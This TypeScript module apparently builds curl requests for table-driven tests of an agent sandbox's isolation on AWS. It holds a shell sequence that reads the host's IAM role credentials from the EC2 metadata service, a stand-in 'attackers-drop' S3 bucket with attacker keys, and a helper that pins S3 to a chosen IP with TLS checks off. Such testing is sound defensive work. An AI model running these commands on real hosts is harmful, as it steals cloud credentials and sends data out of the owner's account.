/** Requests to AWS as commands of the rows: who signs them, and what they ask. */

export const region = "us-east-1";
export const account = "111122223333";

export const buckets = {
    release: `isolated-openhands-release-${account}.s3`,
    artifacts: `ttb-verifier-artifacts-${account}.s3`,
    drop: "attackers-drop.s3",
} as const;

/** S3 by its address, whatever the resolver says. */
export const s3Address = "52.216.1.1";

export const attacker = '--user "$ATTACKER_KEY:$ATTACKER_SECRET"';

/** The host's own role, as its metadata hands it out: run before `own` is used. */
export const role = [
    "m=http://169.254.169.254/latest",
    "t=$(curl -sS -f -m 2 -X PUT -H 'x-aws-ec2-metadata-token-ttl-seconds: 60' $m/api/token)",
    'r=$(curl -sS -f -m 2 -H "x-aws-ec2-metadata-token: $t" $m/meta-data/iam/security-credentials/)',
    'c=$(curl -sS -f -m 2 -H "x-aws-ec2-metadata-token: $t" $m/meta-data/iam/security-credentials/$r)',
    'key() { echo "$c" | jq -r .$1; }',
].join("; ");
export const own = '--user "$(key AccessKeyId):$(key SecretAccessKey)" -H "x-amz-security-token: $(key Token)"';

/** A request that curl signs; `URL` in the rest is the service's address. */
export const signed = (service: string, who: string, host: string, rest: string, before = "-o /dev/null"): string =>
    `curl -sS -f -m 8 ${before} --aws-sigv4 aws:amz:${region}:${service} ${who} ${rest.replace("URL", `https://${host}.${region}.amazonaws.com`)}`;

/** The same to an address that the sender has chosen. */
export const signedAt = (address: string, service: string, who: string, host: string, rest: string): string =>
    signed(service, who, host, rest, `-k -o /dev/null --connect-to ::${address}:443`);

export const target = (service: string, operation: string, input: object): string =>
    `-H 'content-type: application/x-amz-json-1.1' -H "x-amz-target: ${service}.${operation}" -d "${JSON.stringify(input).replaceAll('"', '\\"')}" URL/`;

export const ssm = (operation: string, input: object): string => target("AmazonSSM", operation, input);
export const logs = (operation: string, input: object): string => target("Logs_20140328", operation, input);
